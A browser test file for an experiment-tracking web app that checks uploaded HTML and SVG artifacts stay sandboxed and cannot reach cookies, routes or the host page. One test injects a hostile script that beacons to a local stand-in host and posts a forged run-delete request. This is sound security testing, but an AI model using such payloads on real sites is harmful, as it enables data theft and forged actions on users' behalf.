/** What uploaded pages and drawings must not do, in a real browser; slow, as each waits for a page to have tried. */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, expect, test } from 'vitest'
import { access } from '../../src/features/access/contract/accounts.ts'
import { experiments } from '../../src/features/track/contract/experiments.ts'
import { runs } from '../../src/features/track/contract/runs.ts'
import { server } from '../harness/server.ts'
import { browserOn } from './browser.ts'
import { HOSTILE_PAGE } from './seed-files.ts'
import { seededServer } from './seeded-server.ts'

const { seeded, url } = await seededServer()
const { open } = browserOn(url)

const at = (query: Record<string, string>) => `/runs/${seeded.best}?${new URLSearchParams(query)}`

/** What a page wrote down of its attempts. */
const tried = async (page: Page, selector = 'iframe.file-sandbox'): Promise<string[]> =>
  page.frameLocator(selector).locator('#tried li').allTextContents()

test('an uploaded page runs no script; allowed to, it still reaches neither cookies nor routes nor the page around it', {
  timeout: 60_000,
}, async () => {
  const { page } = await open(
    at({ file: 'reports/evaluation.html' }),
    undefined,
    /Blocked script|sandbox|Content Security|Failed to load|ERR_/,
  )
  const title = await page.title()
  await page.frameLocator('iframe.file-sandbox').locator('h1').waitFor()
  expect(await tried(page)).toEqual([])
  await page.click('button:has-text("Allow scripts")')
  await expect.poll(() => tried(page).then((list) => list.length), { timeout: 10_000 }).toBe(7)
  expect((await tried(page)).sort()).toEqual([
    'cookies: refused',
    'image: refused',
    'network: refused',
    'page around: refused',
    'routes: refused',
    'storage: refused',
    'top: refused',
  ])
  expect(await page.title()).toBe(title)
  expect(page.url()).not.toContain('scripts')
  await page.reload()
  await page.frameLocator('iframe.file-sandbox').locator('h1').waitFor()
  expect(await tried(page)).toEqual([])
})

test('a drawing with a script does nothing but show', { timeout: 30_000 }, async () => {
  const { page } = await open(at({ file: 'charts/drawing.svg' }))
  await page.waitForSelector('.file-note:has-text("320 × 160 pixels")')
  expect(await page.title()).not.toContain('stolen')
  // Opened alone it is a document of its own: still without scripts.
  const alone = await page.context().newPage()
  const errors: string[] = []
  alone.on('console', (message) => errors.push(message.text()))
  await alone.goto(url + (await page.getAttribute('.file-actions a:has-text("Open alone")', 'href'))!)
  expect(await alone.evaluate(() => (globalThis as { ran?: boolean }).ran)).toBeUndefined()
  expect(errors.join()).toMatch(/sandboxed|Content Security/)
})

test('with accounts, the cookie of the person who looks does not help the page she looks at', {
  timeout: 60_000,
}, async () => {
  const outside: string[] = []
  const listener = createServer((request, reply) => {
    outside.push(String(request.url))
    reply.end()
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  afterAll(() => void listener.close())
  const elsewhere = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`
  const closed = await server()
  const { experiment_id } = await closed.call(experiments.create, { name: 'hostile' })
  const { run } = await closed.call(runs.create, { experiment_id, run_name: 'hostile' })
  const root = run.info.artifact_uri.replace('mlflow-artifacts:/', '')
  const page0 = HOSTILE_PAGE.replace(
    '</script>',
    `
    const leak = new URL(${JSON.stringify(elsewhere)}); leak.pathname = 'taken'; fetch(leak).catch(() => {});
    const frame = document.createElement('iframe'); frame.src = leak; document.body.append(frame);
    const form = document.createElement('form'); form.action = '/api/2.0/mlflow/runs/delete'; form.method = 'post'; document.body.append(form);
    try { form.submit() } catch {}
    navigator.sendBeacon(leak, 'x'); new Image().src = leak;
  </script><meta http-equiv="refresh" content="1;url=${elsewhere}/refreshed"><link rel="stylesheet" href="${elsewhere}/style.css">`,
  )
  await closed.send('PUT', `/api/2.0/mlflow-artifacts/artifacts/${root}/page.html`, page0, { 'content-type': 'text/x' })
  const { token } = await closed.call(access.createAccount, { name: 'amara' })
  const base = await closed.listen()
  const { page } = await open(`${base}/runs/${run.info.run_id}?file=page.html`, undefined, /./)
  await page.click('.problem a:has-text("Log in")')
  await page.fill('input[name=token]', token!)
  await page.keyboard.press('Enter')
  await page.frameLocator('iframe.file-sandbox').locator('h1').waitFor()
  await page.click('button:has-text("Allow scripts")')
  await expect.poll(() => tried(page).then((list) => list.length), { timeout: 10_000 }).toBeGreaterThan(6)
  expect((await tried(page)).filter((line) => !line.endsWith(': refused'))).toEqual([])
  await page.waitForTimeout(1_500)
  expect(outside).toEqual([])
  expect(
    (await closed.send('GET', `/api/v1/runs/${run.info.run_id}`, undefined, { authorization: `Bearer ${token}` })).body
      .run,
  ).toMatchObject({
    deleted: false,
  })
})
